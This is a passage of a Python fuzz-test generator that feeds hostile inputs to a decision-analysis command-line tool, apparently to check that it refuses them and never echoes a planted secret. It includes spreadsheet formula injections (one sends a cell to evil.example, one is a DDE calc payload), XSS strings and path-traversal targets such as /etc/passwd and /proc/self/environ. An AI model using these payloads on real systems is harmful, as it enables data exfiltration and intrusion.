"""Generator of hostile inputs for the command line (deterministic: fixed seeds, no clock, no network).

Each :class:`Case` is one command (``python -m mcda rank|ahp|smaa|run|weights`` or ``python -m
optimisation solve``) with the files it needs, materialised under its own folder by
:func:`materialise`. The families:

* scenario mutants: every field of the shipped scenarios replaced by wrong types, huge / negative /
  NaN / Infinity numbers, deep nesting, hostile strings; plus duplicate keys, unknown fields and
  whole-file junk (0 bytes, BOM, binary, truncated, non-UTF-8, 5,000-digit numbers);
* table junk for rank / smaa / weights / ahp: binary garbage, truncated files, BOMs, 0 bytes, one
  huge header line, ragged rows, formula strings, control characters, non-UTF-8, XLSX junk;
* paths: absolute, ``..``, /dev/zero, /dev/urandom, a FIFO, a folder, a symlink out of the folder,
  as a scenario's ``data.dataset`` and as command-line arguments; ``--out`` on a file or read-only;
* sizes: 1,000,000 columns, 1,100,000 rows for smaa, 200,000 unknown candidates, a sparse 300 MB file.

Every case folder has a sibling ``outside/secret.csv`` holding :data:`SECRET`: no output, stdout or
stderr may ever contain it.
"""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import random
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
INPUTS = ROOT / "tests" / "golden" / "inputs"
SCENARIOS = ("default", "paper_2022")
SEED = 20240611
#: a marker that exists only in a file outside every case folder
SECRET = "SECRET-7f3a9c-DO-NOT-ECHO"
SECRET_CSV = f"id,gdp,population\n{SECRET},1,2\nB{SECRET},3,4\n".encode()

#: strings a planner (or an attacker) might type; the formula / markup ones must pass through safely
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "![x](http://evil.example/a.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "| a | b |",
    "[link](javascript:alert(1))",
    "名前 🙂",
    "\u202eevil",
    "a" * 5000,
]
#: strings the text rule refuses (mcda/text.py)
CONTROL = ["a\x00b", "a\x0bb", "a\x1bb", "a\x85b", "a\ud800b", "a\udfffb", "a\ufffeb", "a\U0010ffffb", "a\x7fb"]


@dataclass
class Case:
    """One command run: ``argv`` may hold ``{d}`` (the case folder) and ``{o}`` (its output folder)."""

    id: str
    module: str
    argv: list[str]
    files: dict[str, bytes] = field(default_factory=dict)
    fifos: list[str] = field(default_factory=list)
    dirs: list[str] = field(default_factory=list)
    symlinks: dict[str, str] = field(default_factory=dict)  # name -> target ({root} = corpus root)
    sparse: dict[str, int] = field(default_factory=dict)  # name -> size (a hole, no disk used)
    isolate: bool = False  # subprocess with a timeout and a memory limit (may hang or blow up)
    expect: tuple[int, ...] | None = None  # exact exit codes when the right answer is known
    family: str = ""


def _csv_bytes(path: Path) -> bytes:
    return path.read_bytes()


MATRIX = _csv_bytes(INPUTS / "matrix.csv")
CRITERIA = _csv_bytes(INPUTS / "criteria.csv")
JUDGEMENTS = _csv_bytes(INPUTS / "judgements.csv")


def _scenario_doc(name: str) -> dict:
    return json.loads((ROOT / "scenarios" / f"{name}.json").read_text(encoding="utf-8"))


def _dumps(doc) -> bytes:
    """JSON text; NaN / Infinity written as the (non-standard) tokens Python emits; ASCII-escaped so
    lone surrogates survive as \\udXXX escapes."""
    return json.dumps(doc, allow_nan=True, ensure_ascii=True).encode()


def _paths(node, loc=()):
    """Every field path (leaves and containers) of a JSON document."""
    yield loc
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, loc + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node[:3]):
            yield from _paths(v, loc + (i,))


def _set(doc, loc, value):
    d = copy.deepcopy(doc)
    if not loc:
        return value
    cur = d
    for k in loc[:-1]:
        cur = cur[k]
    cur[loc[-1]] = value
    return d


def _nest(depth: int, kind: str = "list"):
    v: object = 1
    for _ in range(depth):
        v = [v] if kind == "list" else {"a": v}
    return v


MUTATIONS = (
    [
        ("str", "text"),
        ("int", 1),
        ("neg", -1),
        ("zero", 0),
        ("float", 0.5),
        ("huge", 1e308),
        ("neghuge", -1e308),
        ("bigint", 10**30),
        ("nan", float("nan")),
        ("inf", float("inf")),
        ("ninf", float("-inf")),
        ("null", None),
        ("true", True),
        ("list", []),
        ("dict", {}),
        ("listjunk", [1, "x", None]),
        ("deep40", _nest(40)),
        ("deepdict40", _nest(40, "dict")),
        ("empty", ""),
    ]
    + [(f"inj{i}", s) for i, s in enumerate(INJECTIONS)]
    + [(f"ctl{i}", s) for i, s in enumerate(CONTROL)]
)


def scenario_mutants(per_field: int = 3) -> list[Case]:
    """Every field of each shipped scenario, replaced by ``per_field`` mutations drawn with a fixed seed."""
    rng = random.Random(SEED)
    cases = []
    for sc in SCENARIOS:
        doc = _scenario_doc(sc)
        for loc in _paths(doc):
            picks = rng.sample(MUTATIONS, per_field)
            for tag, value in picks:
                name = "/".join(map(str, loc)) or "ROOT"
                cases.append(
                    Case(
                        f"mut-{sc}-{name}-{tag}",
                        "optimisation",
                        ["solve", "{d}/s.json", "--out", "{o}"],
                        files={"s.json": _dumps(_set(doc, loc, value))},
                        family="scenario-mutant",
                    )
                )
    return cases


def scenario_structure() -> list[Case]:
    """Whole-document junk: duplicate keys, unknown fields, nesting, numbers Python refuses, bad bytes."""
    doc = _scenario_doc("default")
    text = json.dumps(doc)
    raw = {
        "dup-top": text.replace("{", '{"name": "first", ', 1),
        "dup-nested": text.replace('"data": {', '"data": {"dataset": "default", ', 1),
        "dup-deep": text.replace('"allocation": {', '"allocation": {"budget_aid_musd": 1, ', 1),
        "unknown-top": text.replace("{", '{"extra_field": 1, ', 1),
        "unknown-nested": text.replace('"method": {', '"method": {"normalisation": "minmax", ', 1),
        "deep-100k": "[" * 100_000 + "]" * 100_000,
        "deep-in-options": text.replace('"options": {}', '"options": {"x": ' + "[" * 5000 + "]" * 5000 + "}", 1),
        "int-5000-digits": text.replace('"top_k": 5', '"top_k": ' + "9" * 5000, 1),
        "float-1e999": text.replace('"budget_aid_musd": 362', '"budget_aid_musd": 1e999', 1),
        "float-long": text.replace('"budget_aid_musd": 362', '"budget_aid_musd": 3' + "0" * 400 + ".5", 1),
        "nan-filter-value": text.replace('"value": 1', '"value": NaN', 1),
        "array": "[]",
        "string": '"x"',
        "number": "1",
        "null": "null",
        "truncated": text[: len(text) // 2],
        "trailing-garbage": text + "}",
    }
    cases = [
        Case(
            f"struct-{k}",
            "optimisation",
            ["solve", "{d}/s.json", "--out", "{o}"],
            files={"s.json": v.encode()},
            expect=(2,),
            family="scenario-structure",
        )
        for k, v in raw.items()
    ]
    byte_cases = {
        "empty": b"",
        "bom-only": b"\xef\xbb\xbf",
        "bom-valid": b"\xef\xbb\xbf" + text.encode(),
        "latin1": text.replace("Default", "Défault").encode("latin-1"),
        "binary": random.Random(SEED).randbytes(4096),
        "nul-bytes": b"\x00" * 64,
    }
    for k, v in byte_cases.items():
        cases.append(
            Case(
                f"struct-{k}",
                "optimisation",
                ["solve", "{d}/s.json", "--out", "{o}"],
                files={"s.json": v},
                expect=(0,) if k == "bom-valid" else (2,),
                family="scenario-structure",
            )
        )
    # hostile text through the full run (report, XLSX, HTML): refused control text, accepted injections
    small = _small_dataset()
    for i, s in enumerate(CONTROL):
        for where in ("name", "description", "reason"):
            d = copy.deepcopy(doc)
            if where == "reason":
                d["shortlist"]["exclusions"] = [{"id": "ARG", "reason": s}]
            else:
                d[where] = s
            cases.append(
                Case(
                    f"text-run-{where}-ctl{i}",
                    "mcda",
                    ["run", "{d}/s.json", "--out", "{o}"],
                    files={"s.json": _dumps(d)},
                    expect=(2,),
                    family="scenario-text",
                )
            )
    d = _small_scenario()
    d["name"] = " ".join(INJECTIONS[:7]) + " 名前 🙂"
    d["description"] = "\n".join(INJECTIONS) + "\ttabbed\r\nline"
    d["shortlist"]["exclusions"] = [{"id": "R2", "reason": INJECTIONS[0]}]
    cases.append(
        Case(
            "text-run-injections",
            "mcda",
            ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
            files={"s.json": _dumps(d), "data.csv": small},
            expect=(0,),
            family="scenario-text",
        )
    )
    return cases


def _small_dataset() -> bytes:
    """A 6-row table inside the scenario folder whose name column holds injection strings."""
    rows = ["id,name,size,risk"]
    for i in range(6):
        nm = INJECTIONS[i].replace('"', "'")
        rows.append(f'R{i},"{nm}",{10 + 3 * i},{(i * 7) % 5 + 1}')
    return ("\n".join(rows) + "\n").encode()


def _small_scenario(dataset: str = "data.csv") -> dict:
    return {
        "name": "small",
        "data": {"dataset": dataset},
        "criteria": [
            {"id": "size", "direction": "benefit", "weight": 1},
            {"id": "risk", "direction": "cost", "weight": 1},
        ],
        "method": {"name": "topsis", "normalization": "minmax"},
        "shortlist": {"top_k": 2},
    }


def electre3_thresholds() -> list[Case]:
    """Bad ELECTRE III thresholds (method.options.thresholds): each exits 2 with one line naming them."""
    bad = {
        "q-above-p": {"size": {"q": 5, "p": 2}},
        "v-below-p": {"size": {"p": 5, "v": 2}},
        "negative": {"size": {"q": -1}},
        "text": {"size": {"p": "5"}},
        "bool": {"size": {"v": True}},
        "nan": {"size": {"p": float("nan")}},
        "inf": {"size": {"v": float("inf")}},
        "unknown-criterion": {"nope": {"q": 1}},
        "unknown-key": {"size": {"w": 1}},
        "not-an-object": {"size": 3},
        "list": [1, 2, 3],
        "text-all": "all",
        "injection-key": {INJECTIONS[0]: {"q": 1}},
    }
    cases = []
    for tag, th in bad.items():
        d = _small_scenario()
        d["method"] = {"name": "electre3", "options": {"thresholds": th}}
        cases.append(
            Case(
                f"electre3-thresholds-{tag}",
                "mcda",
                ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
                files={"s.json": _dumps(d), "data.csv": _small_dataset()},
                expect=(2,),
                family="method-options",
            )
        )
    # rank --method electre3 --thresholds FILE (CSV criterion,q,p,v): junk files exit 2 naming file and line
    files = {
        "q-above-p": b"criterion,q,p,v\n*,5,2,\n",
        "text": b"criterion,q,p,v\n*,a,1,2\n",
        "negative": b"criterion,q,p,v\n*,-1,1,2\n",
        "bad-header": b"crit,q,p,v\n*,0,1,2\n",
        "extra-column": b"criterion,q,p,v,w\n*,0,1,2,3\n",
        "header-only": b"criterion,q,p,v\n",
        "twice": b"criterion,q,p,v\n*,0,1,2\n*,0,1,2\n",
        "unknown-criterion": b"criterion,q,p,v\nnope,0,1,2\n",
        "injection": b"criterion,q,p,v\n=cmd|' /C calc'!A0,0,1,2\n",
        "binary": bytes(range(256)),
    }
    for tag, body in files.items():
        cases.append(
            Case(
                f"rank-electre3-thresholds-{tag}",
                "mcda",
                ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "electre3", "--thresholds", "{d}/t.csv"],
                files={"m.csv": MATRIX, "c.csv": CRITERIA, "t.csv": body},
                expect=(2,),
                family="method-options",
            )
        )
    cases.append(
        Case(
            "rank-thresholds-not-electre3",
            "mcda",
            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--thresholds", "{d}/t.csv"],
            files={"m.csv": MATRIX, "c.csv": CRITERIA, "t.csv": b"criterion,q,p,v\n*,0,1,2\n"},
            expect=(2,),
            family="method-options",
        )
    )
    return cases


def _alloc_scenario(dataset: str) -> bytes:
    d = _scenario_doc("default")
    d["data"]["dataset"] = dataset
    return _dumps(d)


def dataset_paths() -> list[Case]:
    """data.dataset naming files elsewhere: each must be refused (exit 2) without echoing the file."""
    solve = ["solve", "{d}/s.json", "--out", "{o}"]
    out = []
    bad = {
        "absolute": "{root}/outside/secret.csv",
        "dotdot": "../../outside/secret.csv",
        "etc-passwd": "/etc/passwd",
        "dev-zero": "/dev/zero",
        "dev-urandom": "/dev/urandom",
        "fifo-inside": "fifo.csv",
        "folder-inside": "sub",
        "symlink-out": "link.csv",
        "missing": "nope.csv",
        "proc": "/proc/self/environ",
        "nul": "a\x00b.csv",
        "symlink-loop": "loop.csv",
    }
    for k, v in bad.items():
        c = Case(
            f"dataset-{k}",
            "optimisation",
            solve,
            family="dataset-path",
            expect=(2,),
            isolate=k in ("dev-zero", "dev-urandom", "fifo-inside"),
        )
        c.files["s.json"] = _alloc_scenario(v)
        if k == "fifo-inside":
            c.fifos.append("fifo.csv")
        if k == "folder-inside":
            c.dirs.append("sub")
        if k == "symlink-out":
            c.symlinks["link.csv"] = "{root}/outside/secret.csv"
        if k == "symlink-loop":
            c.symlinks["loop.csv"] = "loop.csv"
        out.append(c)
        if k in ("absolute", "dotdot", "symlink-out"):  # also through the full run
            r = copy.deepcopy(c)
            r.id, r.module, r.argv = f"dataset-run-{k}", "mcda", ["run", "{d}/s.json", "--out", "{o}"]
            out.append(r)
    ok = Case(
        "dataset-inside-ok",
        "mcda",
        ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
        files={"s.json": _dumps(_small_scenario("sub/data.csv")), "sub/data.csv": _small_dataset()},
        expect=(0,),
        family="dataset-path",
    )
    inside_link = Case(
        "dataset-symlink-inside-ok",
        "mcda",
        ["run", "{d}/s.json", "--out", "{o}", "--no-allocation"],
        files={"s.json": _dumps(_small_scenario("link.csv")), "real.csv": _small_dataset()},
        symlinks={"link.csv": "real.csv"},
        expect=(0,),
        family="dataset-path",
    )
    return out + [ok, inside_link]


def cli_paths() -> list[Case]:
    """Devices, pipes, folders and missing files as command-line arguments; --out on a file or read-only."""
    out = []
    targets = {
        "dev-zero": "/dev/zero",
        "dev-urandom": "/dev/urandom",
        "fifo": "{d}/fifo",
        "folder": "{d}/sub",
        "missing": "{d}/nope.csv",
        "empty-name": "",
    }
    for k, t in targets.items():
        iso = k in ("dev-zero", "dev-urandom", "fifo")
        specs = [
            ("rank", "mcda", ["rank", t, "--criteria", "{d}/c.csv"]),
            ("rank-crit", "mcda", ["rank", "{d}/m.csv", "--criteria", t]),
            ("weights", "mcda", ["weights", t, "--criteria", "{d}/c.csv", "--method", "entropy"]),
            ("smaa", "mcda", ["smaa", t, "--criteria", "{d}/c.csv", "--samples", "100", "--out", "{o}/a.csv"]),
            ("ahp", "mcda", ["ahp", t]),
            ("run", "mcda", ["run", t, "--out", "{o}"]),
            ("solve", "optimisation", ["solve", t, "--out", "{o}"]),
        ]
        for name, mod, argv in specs:
            out.append(
                Case(
                    f"cli-{name}-{k}",
                    mod,
                    argv,
                    files={"m.csv": MATRIX, "c.csv": CRITERIA},
                    fifos=["fifo"],
                    dirs=["sub"],
                    isolate=iso,
                    expect=(2,),
                    family="cli-path",
                )
            )
    sc = (ROOT / "scenarios" / "default.json").read_bytes()
    for name, mod, argv in [
        ("run", "mcda", ["run", "{d}/s.json", "--out", "{d}/afile"]),
        ("solve", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile"]),
        ("solve-under-file", "optimisation", ["solve", "{d}/s.json", "--out", "{d}/afile/sub"]),
        ("solve-readonly", "optimisation", ["solve", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
        ("run-readonly", "mcda", ["run", "{d}/s.json", "--out", "/sys/fulcrum-out"]),
        ("rank-readonly", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "/sys/fulcrum-out.csv"]),
        ("rank-out-folder", "mcda", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{d}"]),
        (
            "smaa-out-missing-dir",
            "mcda",
            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "50", "--out", "{d}/no/such/a.csv"],
        ),
    ]:
        out.append(
            Case(
                f"out-{name}",
                mod,
                argv,
                files={"s.json": sc, "afile": b"x", "m.csv": MATRIX, "c.csv": CRITERIA},
                expect=(2,),
                family="out-path",
            )
        )
    return out


def _replace_cell(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new, 1)


def table_junk() -> list[Case]:
    """Bad decision matrices and criteria files through rank, smaa and weights."""
    rng = random.Random(SEED + 1)
    m = MATRIX
    variants: dict[str, tuple[bytes, tuple[int, ...] | None]] = {
        "empty": (b"", (2,)),
        "bom-only": (b"\xef\xbb\xbf", (2,)),
        "bom": (b"\xef\xbb\xbf" + m, (0,)),
        "binary": (rng.randbytes(8192), (2,)),
        "truncated": (m[: len(m) * 2 // 3], None),
        "header-only": (m.split(b"\n", 1)[0] + b"\n", (2,)),
        "crlf": (m.replace(b"\n", b"\r\n"), (0,)),
        "cr-only": (m.replace(b"\n", b"\r"), None),
        "ragged-long": (_replace_cell(m, b",3\n", b",3,99\n"), (2,)),
        "ragged-short": (_replace_cell(m, b",19264,3\n", b"\n"), (2,)),
        "latin1": (_replace_cell(m, b"ARG", "ARGé".encode("latin-1")), (2,)),
        "utf16": (m.decode().encode("utf-16"), (2,)),
        "nul-cell": (_replace_cell(m, b"ARG", b"AR\x00G"), (2,)),
        "vt-cell": (_replace_cell(m, b"ARG", b"AR\x0bG"), (2,)),
        "c1-cell": (_replace_cell(m, b"ARG", "AR\x85G".encode()), (2,)),
        "vt-header": (_replace_cell(m, b"gdp", b"g\x0bdp"), (2,)),
        "esc-value": (_replace_cell(m, b"683097891618.597", b"6\x1b8"), (2,)),
        "quoted-newline-id": (_replace_cell(m, b"ARG,", b'"AR\nG",'), (2,)),
        "formula-ids": (
            _replace_cell(
                _replace_cell(m, b"ARG", b'"=HYPERLINK(""http://evil.example"")"'), b"ATG", b"+cmd|' /C calc'!A0"
            ),
            (0,),
        ),
        "formula-values": (_replace_cell(m, b"683097891618.597", b"=1+1"), (2,)),
        "dup-ids": (_replace_cell(m, b"ATG", b"ARG"), (2,)),
        "nan-text": (_replace_cell(m, b"683097891618.597", b"nan"), (2,)),
        "inf": (_replace_cell(m, b"683097891618.597", b"inf"), (2,)),
        "1e999": (_replace_cell(m, b"683097891618.597", b"1e999"), (2,)),
        "5000-digits": (_replace_cell(m, b"683097891618.597", b"9" * 5000), None),
        "huge-values": (_replace_cell(m, b"683097891618.597", b"1.7e308"), None),
        "semicolon": (m.replace(b",", b";"), None),
        "tabs": (m.replace(b",", b"\t"), None),
        "huge-header": (b"id," + b",".join(b"c%d" % i for i in range(200_000)) + b"\nA,1\n", (2,)),
        "many-columns": (
            b"id," + b",".join(b"c%d" % i for i in range(1500)) + b"\n" + b"A" + b",1" * 1500 + b"\n",
            (2,),
        ),
        "only-ids": (b"id\nA\nB\n", (2,)),
        "blank-lines": (b"\n\n\n" + m + b"\n\n,,,\n", (0,)),
        "markdown-id": (_replace_cell(m, b"ARG", b"![x](http://evil.example/a.png)"), (0,)),
        "script-id": (_replace_cell(m, b"ARG", b"<script>alert(1)</script>"), (0,)),
    }
    cases = []
    for k, (data, exp) in variants.items():
        for cmd, argv in (
            ("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv", "--out", "{o}/rank.csv"]),
            ("smaa", ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "200", "--out", "{o}/smaa.csv"]),
            (
                "weights",
                ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy", "--out", "{o}/weights.csv"],
            ),
        ):
            cases.append(
                Case(
                    f"matrix-{k}-{cmd}",
                    "mcda",
                    argv,
                    files={"m.csv": data, "c.csv": CRITERIA},
                    expect=exp,
                    family="matrix-junk",
                )
            )
    c = CRITERIA
    crit_variants = {
        "empty": b"",
        "binary": rng.randbytes(2048),
        "no-weight-col": b"criterion,direction\ngdp,benefit\n",
        "unknown-criterion": c + b"nope,benefit,1\n",
        "bad-direction": _replace_cell(c, b"gdp,benefit", b"gdp,better"),
        "nan-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,nan"),
        "neg-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,-1"),
        "inf-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,1e999"),
        "5000-digit-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit," + b"9" * 5000),
        "text-weight": _replace_cell(c, b"gdp,benefit,2.0", b"gdp,benefit,=SUM(1)"),
        "all-zero": b"criterion,direction,weight\ngdp,benefit,0\nhdi,cost,0\n",
        "dup": c + b"gdp,benefit,1\n",
        "ctl-name": _replace_cell(c, b"gdp,", b"g\x1fdp,"),
        "formula-name": _replace_cell(c, b"gdp,", b"=gdp,"),
    }
    for k, data in crit_variants.items():
        for cmd, argv in (
            ("rank", ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"]),
            ("weights", ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "critic"]),
        ):
            exp = (0, 2) if (cmd == "weights" and "weight" in k) or k == "all-zero" else (2,)
            cases.append(
                Case(
                    f"criteria-{k}-{cmd}",
                    "mcda",
                    argv,
                    files={"m.csv": MATRIX, "c.csv": data},
                    expect=exp,
                    family="criteria-junk",
                )
            )
    cases += _xlsx_junk()
    return cases


def _xlsx_junk() -> list[Case]:
    from openpyxl import Workbook

    def book(rows) -> bytes:
        wb = Workbook()
        ws = wb.active
        for r in rows:
            ws.append(r)
        b = io.BytesIO()
        wb.save(b)
        return b.getvalue()

    good = [["id", "gdp", "hdi"], ["A", 1.0, 0.5], ["B", 2.0, 0.7], ["C", 3.0, 0.6]]
    crit = b"criterion,direction,weight\ngdp,benefit,1\nhdi,cost,1\n"
    variants = {
        "good": (book(good), (0,)),
        "text": (b"this is text, not a workbook\n", (2,)),
        "random": (random.Random(SEED + 2).randbytes(4096), (2,)),
        "truncated": (book(good)[:600], (2,)),
        # a formula cell has no cached value when openpyxl wrote it: a missing id (exit 2) is the right answer
        "formula-id": (book([good[0], ['=HYPERLINK("http://evil.example")', 1.0, 0.5], *good[2:]]), (0, 2)),
        "c1-cell": (book([good[0], ["A\x85", 1.0, 0.5], *good[2:]]), (2,)),
        "del-cell": (book([good[0], ["A", 1.0, 0.5], ["B\x7f", 2.0, 0.7], good[3]]), (2,)),
        "nonchar-header": (book([["id", "gdp\ufffe", "hdi"], *good[1:]]), (2,)),
        "empty-sheet": (book([]), (2,)),
    }
    return [
        Case(f"xlsx-{k}-{cmd}", "mcda", argv, files={"m.xlsx": data, "c.csv": crit}, expect=exp, family="xlsx-junk")
        for k, (data, exp) in variants.items()
        for cmd, argv in (
            ("rank", ["rank", "{d}/m.xlsx", "--criteria", "{d}/c.csv"]),
            ("weights", ["weights", "{d}/m.xlsx", "--criteria", "{d}/c.csv", "--method", "std"]),
        )
    ]


def judgement_junk() -> list[Case]:
    """Bad AHP judgement files (and overflow-prone extended-scale values)."""
    j = JUDGEMENTS
    variants: dict[str, tuple[bytes, tuple[int, ...] | None, list[str]]] = {
        "empty": (b"", (2,), []),
        "binary": (random.Random(SEED + 3).randbytes(1024), (2,), []),
        "not-square": (j.rsplit(b"\n", 2)[0] + b"\n", (2,), []),
        "zero": (_replace_cell(j, b"1/3", b"0"), (2,), []),
        "negative": (_replace_cell(j, b"1/3", b"-3"), (2,), []),
        "text": (_replace_cell(j, b"1/3", b"abc"), (2,), []),
        "formula": (_replace_cell(j, b"1/3", b"=1/3"), (2,), []),
        "div-zero": (_replace_cell(j, b"1/3", b"1/0"), (2,), []),
        "ctl-name": (_replace_cell(j, b"economic,1", b"econ\x0bomic,1"), (2,), []),
        "nul": (_replace_cell(j, b"1/3", b"1\x00/3"), (2,), []),
        "latin1": (_replace_cell(j, b"ties", "tiés".encode("latin-1")), (2,), []),
        "off-scale": (_replace_cell(j, b"1,3,5,2", b"1,30,5,2"), (2,), []),
        "overflow": (b"x,a,b,c\na,1,1e300,1e-300\nb,1e-300,1,1e300\nc,1e300,1e-300,1\n", (2,), ["--extended-scale"]),
        "overflow-geo": (
            b"x,a,b,c\na,1,1e200,1e200\nb,1e-200,1,1e200\nc,1e-200,1e-200,1\n",
            (2,),
            ["--extended-scale", "--method", "geometric"],
        ),
        "wide-ok": (b"x,a,b,c\na,1,1e100,1e100\nb,1e-100,1,1e100\nc,1e-100,1e-100,1\n", (0,), ["--extended-scale"]),
        "5000-digits": (_replace_cell(j, b"1,3,5,2", b"1," + b"9" * 5000 + b",5,2"), (2,), ["--extended-scale"]),
        "201-items": (_square(201), (2,), []),
        "bom": (b"\xef\xbb\xbf" + j, (0,), []),
        "semicolon": (j.replace(b",", b";"), (0,), []),
    }
    return [
        Case(f"ahp-{k}", "mcda", ["ahp", "{d}/j.csv", *extra], files={"j.csv": data}, expect=exp, family="ahp-junk")
        for k, (data, exp, extra) in variants.items()
    ]


def _square(n: int) -> bytes:
    names = [f"i{k}" for k in range(n)]
    lines = ["," + ",".join(names)] + [names[i] + "," + ",".join("1" for _ in range(n)) for i in range(n)]
    return ("\n".join(lines) + "\n").encode()


def sizes() -> list[Case]:
    """Inputs whose size used to exhaust memory or time; run in a subprocess with limits."""
    crit1 = b"criterion,direction,weight\nc1,benefit,1\n"
    wide = (
        b"id," + b",".join(b"c%d" % i for i in range(1_000_000)) + b"\nA," + b",".join(b"1" for _ in range(3)) + b"\n"
    )
    tall = b"id,c1\n" + b"".join(b"a%d,%d\n" % (i, i % 97) for i in range(1_100_000))
    rows2m = b"id,c1\n" + b"a,1\n" * 2_000_100
    doc = _scenario_doc("default")
    doc["data"]["candidates"] = [f"X{i:06d}" for i in range(200_000)]
    dup = _scenario_doc("default")
    dup["data"]["candidates"] = ["ARG"] * 200_000
    return [
        Case(
            "size-million-columns-rank",
            "mcda",
            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
            files={"m.csv": wide, "c.csv": crit1},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-million-columns-weights",
            "mcda",
            ["weights", "{d}/m.csv", "--criteria", "{d}/c.csv", "--method", "entropy"],
            files={"m.csv": wide, "c.csv": crit1},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-smaa-1.1M-rows",
            "mcda",
            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "1000", "--out", "{o}/a.csv"],
            files={"m.csv": tall, "c.csv": crit1},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-rank-2M-rows",
            "mcda",
            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
            files={"m.csv": rows2m, "c.csv": crit1},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-candidates-200k-unknown",
            "optimisation",
            ["solve", "{d}/s.json", "--out", "{o}"],
            files={"s.json": _dumps(doc)},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-candidates-200k-dup",
            "optimisation",
            ["solve", "{d}/s.json", "--out", "{o}"],
            files={"s.json": _dumps(dup)},
            isolate=True,
            expect=(2,),
            family="size",
        ),
        Case(
            "size-sparse-300MB-matrix",
            "mcda",
            ["rank", "{d}/m.csv", "--criteria", "{d}/c.csv"],
            files={"c.csv": crit1},
            sparse={"m.csv": 300 * 1024 * 1024},
            expect=(2,),
            family="size",
        ),
        Case(
            "size-sparse-20MB-scenario",
            "mcda",
            ["run", "{d}/s.json", "--out", "{o}"],
            sparse={"s.json": 20 * 1024 * 1024},
            expect=(2,),
            family="size",
        ),
        Case(
            "size-smaa-samples-huge",
            "mcda",
            ["smaa", "{d}/m.csv", "--criteria", "{d}/c.csv", "--samples", "9" * 40, "--out", "{o}/a.csv"],
            files={"m.csv": MATRIX, "c.csv": CRITERIA},
            expect=(2,),
            family="size",
        ),
    ]


#: data.as_of values that must be refused with exit 2 (issue 10): not a date, impossible dates, out of range
AS_OF_BAD = {
    "text": "yesterday",
    "feb30": "2022-02-30",
    "month13": "2022-13-01",
    "no-padding": "2022-6-30",
    "with-time": "2022-06-30T00:00:00",
    "empty": "",
    "devanagari-digits": "\u0968\u0966\u0968\u0968-\u0966\u096c-\u0969\u0966",
    "before-data": "1900-01-01",
    "future": "2999-01-01",
    "number": 20220630,
    "list": ["2022-06-30"],
    "control": "2022-06-30\x00",
    "injection": INJECTIONS[0],
}


def as_of_cases() -> list[Case]:
    """``data.as_of`` (issue 10): bad values exit 2; a valid date on the default scenario solves."""
    doc = _scenario_doc("default")
    cases = []
    for tag, value in AS_OF_BAD.items():
        bad = copy.deepcopy(doc)
        bad["data"]["as_of"] = value
        cases.append(
            Case(
                f"as-of-{tag}",
                "optimisation",
                ["solve", "{d}/s.json", "--out", "{o}"],
                files={"s.json": _dumps(bad)},
                expect=(2,),
                family="as-of",
            )
        )
    good = copy.deepcopy(doc)
    good["data"]["as_of"] = "2022-06-30"
    cases.append(
        Case(
            "as-of-valid",
            "mcda",
            ["run", "{d}/s.json", "--out", "{o}"],
            files={"s.json": _dumps(good)},
            expect=(0,),
            family="as-of",
        )
    )
    own = _small_scenario()
    own["data"]["as_of"] = "2022-06-30"
    cases.append(
        Case(
            "as-of-own-dataset",
            "mcda",
            ["run", "{d}/s.json", "--out", "{o}"],
            files={"s.json": _dumps(own), "data.csv": _small_dataset()},
            expect=(2,),
            family="as-of",
        )
    )
    return cases


def tracks_junk() -> list[Case]:
    """Bad ``tracks`` (issue 10 item 1): each exits 2 with one line naming the field."""
    doc = _scenario_doc("examples/two_tracks")
    t0 = doc["tracks"][0]

    def with_tracks(tracks, **top) -> dict:
        d = copy.deepcopy(doc)
        d["tracks"] = tracks
        d.update(top)
        return d

    bad = {
        "empty-list": with_tracks([]),
        "not-a-list": with_tracks({"name": "x"}),
        "missing-name": with_tracks([{k: v for k, v in t0.items() if k != "name"}]),
        "blank-name": with_tracks([{**t0, "name": "  "}]),
        "name-number": with_tracks([{**t0, "name": 7}]),
        "duplicate-names": with_tracks([t0, t0]),
        "both-criteria": with_tracks([t0], criteria=t0["criteria"]),
        "both-shortlist": with_tracks([t0], shortlist={"top_k": 2}),
        "quota-over-eligible": with_tracks([{**t0, "shortlist": {**t0["shortlist"], "top_k": 40}}]),
        "quota-zero": with_tracks([{**t0, "shortlist": {"top_k": 0}}]),
        "unknown-field": with_tracks([{**t0, "quota": 2}]),
